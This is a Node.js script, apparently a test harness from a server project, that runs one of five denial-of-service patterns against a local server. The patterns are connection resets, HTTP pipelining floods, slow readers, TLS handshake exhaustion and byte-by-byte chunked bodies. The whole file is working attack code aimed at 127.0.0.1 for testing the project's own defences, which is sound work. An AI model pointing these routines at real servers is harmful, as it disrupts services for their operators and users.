/**
 * Attacks a server in one way from one address, as fast as it can, until it is killed: see attacks.js.
 */
import { connect } from 'node:net';
import { parseArgs } from 'node:util';

import { clientHello, resetSocket } from '../support/http.js';

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: { port: { type: 'string' }, tls: { type: 'string' } }
});

/** The attacker's source address. */
const FROM = '127.0.6.6';

/**
 * Keeps `count` connections open: opens a new one for each closed one.
 *
 * @param {number} count
 * @param {string} port
 * @param {(socket: import('node:net').Socket) => void} use called with each open connection
 */
function keep(count, port, use) {
  const open = () => {
    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: FROM });
    socket.on('error', () => {});
    socket.once('connect', () => use(socket));
    socket.once('close', () => setImmediate(open));
  };
  for (let i = 0; i < count; i += 1) open();
}

/** Sends the same bytes repeatedly, as long as the socket accepts them. */
function pour(socket, bytes) {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}

const HEAD = 'Host: x\r\n\r\n';
const AHEAD = 500;
const hello = await clientHello();

// Paused sockets do not keep the process alive.
setInterval(() => {}, 1000);

const attacks = {
  /** Sends a whole request, a half one or none, and resets the connection. */
  resets() {
    const kinds = ['', 'POST /join HTTP/1.1\r\nContent-Le', `GET /nothing HTTP/1.1\r\n${HEAD}`];
    let times = 0;
    keep(64, values.port, (socket) => {
      times += 1;
      socket.write(kinds[times % kinds.length], () => resetSocket(socket));
    });
  },

  /** Sends endless requests that JavaScript handles, and reads the answers. */
  pipelining() {
    const bytes = Buffer.from(`GET /nothing HTTP/1.1\r\n${HEAD}`.repeat(AHEAD));
    keep(64, values.port, (socket) => {
      socket.on('data', () => {});
      pour(socket, bytes);
    });
  },

  /** Requests the page many times, and reads no answer: the server has to buffer all of them. */
  'slow readers'() {
    const bytes = Buffer.from(`GET / HTTP/1.1\r\n${HEAD}`.repeat(AHEAD));
    keep(1000, values.port, (socket) => {
      socket.pause();
      socket.write(bytes);
    });
  },

  /** Begins TLS handshakes, and resets after the server's certificate, which costs the server CPU. */
  handshakes() {
    keep(64, values.tls, (socket) => {
      socket.write(hello);
      socket.once('data', () => resetSocket(socket));
    });
  },

  /** Sends bodies byte by byte, in chunks. */
  bodies() {
    keep(1000, values.port, (socket) => {
      socket.write(`POST /throw/nobody/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n${HEAD}`);
      socket.on('data', () => {});
      const drip = () => {
        if (socket.destroyed) return;
        socket.write('1\r\n1\r\n');
        setTimeout(drip, 20);
      };
      drip();
    });
  }
};

attacks[positionals[0]]();
